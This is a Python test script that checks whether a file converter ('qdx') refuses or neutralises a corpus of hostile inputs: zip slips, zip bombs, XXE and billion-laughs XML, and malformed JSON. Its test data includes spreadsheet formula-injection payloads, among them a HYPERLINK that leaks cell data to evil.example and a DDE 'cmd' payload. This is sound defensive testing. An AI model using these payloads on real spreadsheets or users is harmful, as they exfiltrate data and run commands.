#!/usr/bin/python3
"""Runs every file of the hostile corpus (make_hostile.py) through the qdx
command and checks the answer:

- refused: exit code 3 (input error), nothing written, and a message that names
  the file, the place (zip member and/or line:column) and the reason;
- neutralised: the conversion succeeds and the danger is gone from the output
  (formulas written as text, long cells split, bad spans skipped), each with
  its diagnostic code in the --report;
- model problems of the canonical JSON (dangling ids, cycles, duplicate ids,
  bad spans), which the JSON reader keeps as written: `qdx validate` exits 1
  naming each problem, and every writer handles them without crashing.

Every run is bounded in time (timeout) and in address space (prlimit --as,
2 GiB by default; not under ASan, which reserves terabytes of address space:
QDX_SANITIZE=1 turns the cap off).

usage: check_hostile.py QDX_BINARY CORPUS_DIR WORK_DIR [CASE_SUBSTRING...]"""

import json
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile

QDX, CORPUS, WORK = sys.argv[1:4]
ONLY = sys.argv[4:]
SANITIZE = os.environ.get("QDX_SANITIZE") == "1"
MEMORY = int(os.environ.get("QDX_HOSTILE_MEMORY", str(2 << 30)))
TIMEOUT = float(os.environ.get("QDX_HOSTILE_TIMEOUT", "120" if SANITIZE else "60"))
failures = []
stats = []
sanitizer_reports = []


def run(args, timeout=None):
    cmd = [QDX] + args
    if not SANITIZE and shutil.which("prlimit"):
        cmd = ["prlimit", "--as=%d" % MEMORY, "--"] + cmd
    env = dict(os.environ, QDX_PLUGIN_PATH="")
    t0 = time.monotonic()
    try:
        p = subprocess.run(cmd, capture_output=True, timeout=timeout or TIMEOUT, env=env, cwd=WORK)
    except subprocess.TimeoutExpired:
        return None, "", "TIMEOUT after %ss" % (timeout or TIMEOUT), timeout or TIMEOUT
    err = p.stderr.decode("utf-8", "replace")
    # A sanitizer report is a failure even when the process goes on (GCC's UBSan
    # does not stop at every check, whatever -fno-sanitize-recover says).
    if re.search(r"runtime error:|ERROR: \w+Sanitizer|SUMMARY: \w+Sanitizer", err):
        sanitizer_reports.append("qdx %s:\n%s" % (" ".join(args), err[:1500]))
    return p.returncode, p.stdout.decode("utf-8", "replace"), err, time.monotonic() - t0


class Case:
    def __init__(self, name):
        self.name = name
        self.errors = []

    def check(self, ok, what):
        if not ok:
            self.errors.append(what)
        return ok


def selected(name):
    return not ONLY or any(s in name for s in ONLY)


def path(name):
    return os.path.join(CORPUS, name)


def out(name):
    p = os.path.join(WORK, name)
    if os.path.exists(p):
        os.remove(p)
    return p


def report_codes(report):
    with open(report, encoding="utf-8") as f:
        return json.load(f)["counts"]


# ------------------------------------------------------------------ refused

def refused(fname, place, reason, targets=("json",), extra=()):
    """The file is refused with exit 3 by validate and by convert (nothing written).
    place, reason: regular expressions the message must match."""
    if not selected(fname):
        return
    c = Case(fname)
    runs = [("validate", ["validate", path(fname)] + list(extra), None)]
    for t in targets:
        o = out("refused-" + fname + "." + t)
        runs.append(("convert->" + t, ["convert", path(fname), o] + list(extra), o))
    for label, args, o in runs:
        rc, _, err, secs = run(args)
        stats.append((fname + " " + label, secs))
        if not c.check(rc == 3, "%s: exit %s, expected 3 (input error); stderr: %s" % (label, rc, err.strip()[:300])):
            continue
        c.check(os.path.basename(fname) in err, "%s: the message does not name the file: %s" % (label, err.strip()[:300]))
        c.check(re.search(place, err) is not None, "%s: the message does not give the place /%s/: %s" % (label, place, err.strip()[:300]))
        c.check(re.search(reason, err, re.I) is not None, "%s: the message does not give the reason /%s/: %s" % (label, reason, err.strip()[:300]))
        c.check(err.count("\n") <= 3, "%s: a refusal should be a short message, got %d lines" % (label, err.count("\n")))
        if o:
            leftovers = [f for f in os.listdir(WORK) if os.path.basename(o) in f]
            c.check(not leftovers, "%s: files left behind: %s" % (label, leftovers))
    finish(c)


def finish(c):
    if c.errors:
        failures.append(c)
        print("FAIL %s" % c.name)
        for e in c.errors:
            print("     - " + e)
    else:
        print("ok   %s" % c.name)


MEMBER = r"!%s"
POS = r":\d+:\d+"


def zip_cases(prefix, target, ext=None, extra=()):
    ext = ext or prefix
    for tag, member in [("slip_dotdot", r"\.\./evil\.txt"), ("slip_absolute", r"/tmp/evil\.txt"),
                        ("slip_drive", r"C:/evil\.txt"), ("slip_backslash", r"sources\\\.\.\\")]:
        refused("%s_%s.%s" % (prefix, tag, ext), MEMBER % member, r"unsafe member name", extra=extra)
    refused("%s_case_collision.%s" % (prefix, ext), MEMBER % re.escape(target.upper()), r"collides .* case", extra=extra)
    refused("%s_bomb.%s" % (prefix, ext), MEMBER % r"zeros\.bin", r"ratio .* exceeds|zip bomb", extra=extra)
    refused("%s_bomb_overlap.%s" % (prefix, ext), MEMBER % r"m\d+\.bin", r"overlapping", extra=extra)
    refused("%s_size_lie.%s" % (prefix, ext), MEMBER % re.escape(target), r"size lie|declared", extra=extra)
    refused("%s_bad_crc.%s" % (prefix, ext), MEMBER % re.escape(target), r"CRC", extra=extra)
    refused("%s_encrypted.%s" % (prefix, ext), MEMBER % re.escape(target), r"encrypted", extra=extra)
    refused("%s_symlink.%s" % (prefix, ext), MEMBER % r"link\.txt", r"symbolic link", extra=extra)
    refused("%s_too_many_entries.%s" % (prefix, ext), r"\.%s: " % ext, r"members, more than the limit", extra=extra)


def refused_cases():
    zip_cases("bundle", "codings.csv", ext="zip", extra=["-f", "csv"])
    refused("bundle_manifest_slip.zip", MEMBER % r"qdx-tables\.json", r"not in the archive", extra=["-f", "csv"])
    refused("bundle_manifest_not_json.zip", MEMBER % r"qdx-tables\.json", r"JSON|invalid", extra=["-f", "csv"])
    zip_cases("qdpx", "project.qde")
    qde = MEMBER % r"project\.qde"
    refused("qdpx_xxe.qdpx", qde + POS, r"DOCTYPE not allowed")
    refused("qdpx_external_dtd.qdpx", qde + POS, r"DOCTYPE not allowed")
    refused("qdpx_billion_laughs.qdpx", qde + POS, r"DOCTYPE not allowed")
    refused("qdpx_deep_xml.qdpx", qde + POS, r"nested deeper than the limit")
    refused("qdpx_invalid_utf8.qdpx", qde + POS, r"malformed XML|invalid|encoding")

    zip_cases("xlsx", "xl/worksheets/sheet1.xml")
    sheet = MEMBER % r"xl/worksheets/sheet1\.xml"
    refused("xlsx_doctype.xlsx", sheet + POS, r"DOCTYPE not allowed")
    refused("xlsx_billion_laughs.xlsx", sheet + POS, r"DOCTYPE not allowed")
    refused("xlsx_invalid_utf8.xlsx", MEMBER % r"xl/sharedStrings\.xml" + POS, r"malformed XML|invalid|encoding")
    refused("xlsx_deep_xml.xlsx", MEMBER % r"xl/sharedStrings\.xml" + POS, r"nested deeper than the limit")
    refused("xlsx_numeric_cell_text.xlsx", sheet + POS, r"numeric cell")

    refused("csv_million_columns.csv", POS, r"more than \d+ fields")
    refused("csv_huge_field.csv", POS, r"field is longer than \d+ bytes", targets=())
    refused("csv_unterminated_quote.csv", POS, r"never closed")

    refused("json_deep.json", POS, r"nesting deeper than \d+")
    refused("json_crash_number_position.json", POS, r"expected integer .*anchor\.start")
    refused("json_crash_number_ext.json", POS, r"number")
    refused("json_invalid_utf8.json", POS, r"encoding|UTF-8")
    refused("json_invalid_utf8_escape.json", POS, r"surrogate")


# ------------------------------------------------------------------ accepted

def converted(fname, target, codes=(), absent=(), check=None, args=()):
    """Converts fname to target; exit 0; every code in `codes` reported; then `check(output)`."""
    name = "%s -> %s" % (fname, target)
    if not selected(fname):
        return None
    c = Case(name)
    o = out("conv-" + os.path.basename(fname) + "." + target)
    rep = out("conv-" + os.path.basename(fname) + "." + target + ".report.json")
    rc, _, err, secs = run(["convert", path(fname), o, "--report", rep] + list(args))
    stats.append((name, secs))
    if c.check(rc == 0, "exit %s, expected 0; stderr: %s" % (rc, err.strip()[:400])):
        got = report_codes(rep)
        for code in codes:
            c.check(code in got, "diagnostic %s not reported (got %s)" % (code, sorted(got)))
        for code in absent:
            c.check(code not in got, "diagnostic %s reported but should not be" % code)
        if check:
            try:
                check(c, o)
            except Exception as ex:  # a check that cannot read the output fails the case
                c.check(False, "check raised %r" % ex)
    finish(c)
    return o


def validated(fname, rc_expected, problems=(), codes=()):
    name = "%s validate" % fname
    if not selected(fname):
        return
    c = Case(name)
    rc, so, err, secs = run(["validate", path(fname)])
    stats.append((name, secs))
    c.check(rc == rc_expected, "exit %s, expected %s; %s %s" % (rc, rc_expected, so.strip()[:300], err.strip()[:300]))
    for pat in problems:
        c.check(re.search(pat, so) is not None, "validate output lacks /%s/: %s" % (pat, so.strip()[:300]))
    for code in codes:
        rc2, so2, err2, _ = run(["validate", "-v", path(fname)])
        c.check(code in err2, "reading did not report %s: %s" % (code, err2.strip()[:300]))
    finish(c)


def xlsx_cells(c, p):
    """Every cell's text and whether any cell is a formula, from every sheet."""
    texts, formulas = [], 0
    with zipfile.ZipFile(p) as zf:
        for n in zf.namelist():
            if n.startswith("xl/worksheets/") and n.endswith(".xml"):
                x = zf.read(n).decode("utf-8")
                formulas += len(re.findall(r"<f[ >]", x))
                texts += re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", x)
            if n == "xl/sharedStrings.xml":
                texts += re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", zf.read(n).decode("utf-8"))
    return texts, formulas


def unescape_xml(s):
    return s.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&apos;", "'").replace("&amp;", "&")


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def no_formulas_in_xlsx(expected_texts):
    def check(c, p):
        texts, formulas = xlsx_cells(c, p)
        c.check(formulas == 0, "%d formula cell(s) written" % formulas)
        texts = [unescape_xml(t) for t in texts]
        for e in expected_texts:
            c.check(e in texts, "the text %r is not a plain text cell of the output" % e)
    return check


def csv_guarded(expected):
    def check(c, p):
        import csv
        with open(p, encoding="utf-8-sig", newline="") as f:
            cells = [x for row in csv.reader(f) for x in row]
        for e in expected:
            c.check("'" + e in cells, "the cell %r is not written guarded as %r" % (e, "'" + e))
        bad = [x for x in cells if x.startswith(FORMULA_STARTS)]
        c.check(not bad, "cells that would run as formulas: %r" % bad[:5])
    return check


def cells_within_excel_limit(joined_len):
    def check(c, p):
        texts, _ = xlsx_cells(c, p)
        longest = max(len(unescape_xml(t)) for t in texts)
        c.check(longest <= 32767, "a cell holds %d characters, over Excel's 32,767" % longest)
        # And qdx joins the pieces again when it reads its own workbook.
        back = out(os.path.basename(p) + ".back.json")
        rc, _, err, _ = run(["convert", p, back])
        if c.check(rc == 0, "reading the split workbook back: exit %s %s" % (rc, err[:300])):
            with open(back, encoding="utf-8") as f:
                doc = json.load(f)
            lens = [len(e.get("quote", "")) for e in doc.get("excerpts", [])]
            c.check(joined_len in lens, "no excerpt of %d characters after reading back (got %s)" % (joined_len, lens))
    return check


def valid_utf8_json(c, p):
    with open(p, "rb") as f:
        data = f.read()
    try:
        json.loads(data.decode("utf-8"))
    except (UnicodeDecodeError, ValueError) as ex:
        c.check(False, "the output is not valid UTF-8 JSON: %s" % ex)


def qde_of(p):
    with zipfile.ZipFile(p) as zf:
        return zf.read("project.qde").decode("utf-8")


def qdpx_spans_sane(c, p):
    x = qde_of(p)
    for s, e in re.findall(r'<PlainTextSelection [^>]*startPosition="(-?\d+)" endPosition="(-?\d+)"', x):
        c.check(0 <= int(s) <= int(e) <= 77, "span [%s, %s) written to the qdpx" % (s, e))


def qdpx_unique_parents(c, p):
    x = qde_of(p)
    c.check(x.count("<Code ") == 3, "expected the 3 codes in the output, got %d" % x.count("<Code "))


FORMULAS_CSV = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(1+1)", "\tTAB", "=cmd|' /C calc'!A0"]
FORMULAS_XLSX = ['=HYPERLINK("http://evil.example/","click")', "+1+2", "@SUM(1+1)", "-2+3"]


def accepted_cases():
    # The well-formed files every hostile one is derived from are read cleanly.
    for f in ["good.qdpx", "good.xlsx", "good.csv", "good.json", "good.zip"]:
        validated(f, 0)
    # Formula cells: read as text, written as text.
    converted("csv_formulas.csv", "csv", codes=["lossy.formula-guard"], check=csv_guarded(FORMULAS_CSV))
    converted("csv_formulas.csv", "xlsx", check=no_formulas_in_xlsx(FORMULAS_CSV))
    converted("xlsx_formulas.xlsx", "xlsx", codes=["info.xlsx-formula-cached"], check=no_formulas_in_xlsx(FORMULAS_XLSX))
    converted("xlsx_formulas.xlsx", "csv", codes=["lossy.formula-guard"], check=csv_guarded(FORMULAS_XLSX))
    # 40,000-character cells: split for Excel, joined again by qdx.
    converted("csv_long_cell.csv", "xlsx", codes=["lossy.xlsx-cell-split"], check=cells_within_excel_limit(40000))
    converted("xlsx_long_cell.xlsx", "xlsx", codes=["lossy.xlsx-cell-split"], check=cells_within_excel_limit(40000))
    # Invalid UTF-8 in a CSV without a declared encoding: read as Windows-1252, said so.
    converted("csv_invalid_utf8.csv", "json", codes=["lossy.encoding"], check=valid_utf8_json)
    # ... and with the encoding named UTF-8: the bad bytes become U+FFFD, said so.
    converted("csv_invalid_utf8.csv", "json", codes=["lossy.encoding"], check=valid_utf8_json, args=["-o", "encoding=utf-8"])
    # REFI spans: out of range, inverted, negative -> skipped with a diagnostic; huge -> a quirk.
    for f, code in [("qdpx_span_out_of_range.qdpx", "skipped.excerpt-out-of-range"),
                    ("qdpx_span_inverted.qdpx", "skipped.excerpt-inverted"),
                    ("qdpx_span_negative.qdpx", "skipped.excerpt-out-of-range")]:
        for t in ("json", "qdpx"):
            converted(f, t, codes=[code], check=qdpx_spans_sane if t == "qdpx" else None)
    # A position beyond 64 bits is no position: the selection is skipped, never placed at 0.
    converted("qdpx_span_huge.qdpx", "qdpx", codes=["skipped.excerpt-bad-position"], check=qdpx_spans_sane)
    refused("qdpx_span_huge.qdpx", qde_place(), r"bad-position", extra=["-o", "strict=true"])
    converted("qdpx_dangling_guid.qdpx", "json", codes=["quirk.dangling-reference"])
    # A selection by a user no <User> declares: the user is declared (nameless), the project validates.
    converted("qdpx_undeclared_user.qdpx", "json", codes=["quirk.user-undeclared"])
    validated("qdpx_undeclared_user.qdpx", 0)
    converted("qdpx_duplicate_guid.qdpx", "json", codes=["quirk.duplicate-guid"])
    converted("qdpx_missing_source.qdpx", "json", codes=["skipped.source-file-missing"])
    validated("qdpx_dangling_guid.qdpx", 1, [r"invalid\.dangling-reference"])

    # Canonical JSON with model problems: validate names them; writers cope.
    validated("json_dangling_theme.json", 1, [r"invalid\.dangling-reference: excerpts\[e1\]\.codings\[0\]\.theme"])
    validated("json_dangling_source.json", 1, [r"invalid\.dangling-reference: excerpts\[e1\]\.source"])
    validated("json_dangling_parent.json", 1, [r"invalid\.dangling-reference: themes\[t1\]\.parent"])
    validated("json_cyclic_themes.json", 1, [r"invalid\.theme-cycle"])
    validated("json_self_parent.json", 1, [r"invalid\.theme-cycle: themes\[t1\]"])
    validated("json_duplicate_ids.json", 1, [r"invalid\.duplicate-id: themes\[t1\]"])
    validated("json_span_out_of_range.json", 1, [r"invalid\.span-out-of-range: excerpts\[e1\]"])
    validated("json_span_inverted.json", 1, [r"invalid\.span-out-of-range: excerpts\[e1\]"])
    validated("json_span_negative.json", 1, [r"invalid\.span-out-of-range: excerpts\[e1\]"])
    converted("json_cyclic_themes.json", "qdpx", codes=["lossy.theme-cycle"], check=qdpx_unique_parents)
    converted("json_self_parent.json", "qdpx", codes=["lossy.theme-cycle"])
    converted("json_dangling_parent.json", "qdpx", codes=["lossy.theme-parent"])
    converted("json_dangling_theme.json", "qdpx", codes=["lossy.dangling-reference"])
    converted("json_dangling_source.json", "qdpx", codes=["skipped.excerpt-source-missing"])
    converted("json_span_out_of_range.json", "qdpx", codes=["skipped.excerpt-out-of-range"], check=qdpx_spans_sane)
    converted("json_span_negative.json", "qdpx", codes=["skipped.excerpt-out-of-range"], check=qdpx_spans_sane)
    converted("json_span_inverted.json", "qdpx", codes=["skipped.excerpt-inverted"], check=qdpx_spans_sane)
    for f in ["json_cyclic_themes.json", "json_self_parent.json", "json_dangling_parent.json", "json_dangling_theme.json",
              "json_dangling_source.json", "json_duplicate_ids.json", "json_span_out_of_range.json",
              "json_span_inverted.json", "json_span_negative.json"]:
        for t in ("json", "xlsx", "csv"):
            converted(f, t)


def qde_place():
    return MEMBER % r"project\.qde"


def regressions():
    """Inputs that once crashed an importer (found by the fuzzers): each must now
    be refused cleanly (exit 3) or read (exit 0) — never crash (exit >= 6 or a signal)."""
    root = os.path.join(os.path.dirname(os.path.abspath(__file__)), "regressions")
    if not os.path.isdir(root):
        return
    fmt_of = {"json": "json", "refi": "refi", "csv": "csv", "xlsx": "xlsx"}
    for fmt in sorted(os.listdir(root)):
        d = os.path.join(root, fmt)
        if not os.path.isdir(d) or fmt not in fmt_of:
            continue
        # A file, or a folder holding one file whose name matters (csv reads the
        # table kind from it: "codings.csv").
        for f in sorted(os.listdir(d)):
            if f.startswith(".") or f.endswith(".md"):
                continue
            p = os.path.join(d, f)
            if os.path.isdir(p):
                inner = [x for x in sorted(os.listdir(p)) if not x.startswith(".") and not x.endswith(".md")]
                if len(inner) != 1:
                    continue
                p = os.path.join(p, inner[0])
            name = "regression %s/%s" % (fmt, f)
            if not selected(name):
                continue
            c = Case(name)
            rc, _, err, secs = run(["validate", "-f", fmt_of[fmt], p])
            stats.append((name, secs))
            c.check(rc in (0, 1, 3), "exit %s (expected 0, 1 or 3): %s" % (rc, err.strip()[:400]))
            if rc == 3:
                c.check(os.path.basename(p) in err, "the message does not name the file: %s" % err.strip()[:300])
            finish(c)


def main():
    os.makedirs(WORK, exist_ok=True)
    refused_cases()
    accepted_cases()
    regressions()
    slow = sorted(stats, key=lambda s: -s[1])[:5]
    print("%d runs; slowest: %s" % (len(stats), ", ".join("%s %.1fs" % s for s in slow)))
    print("memory cap: %s" % ("none (QDX_SANITIZE=1)" if SANITIZE else "%d MiB address space" % (MEMORY >> 20)))
    for r in sanitizer_reports:
        print("SANITIZER REPORT from " + r)
    if failures or sanitizer_reports:
        print("%d case(s) failed, %d sanitizer report(s)" % (len(failures), len(sanitizer_reports)))
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
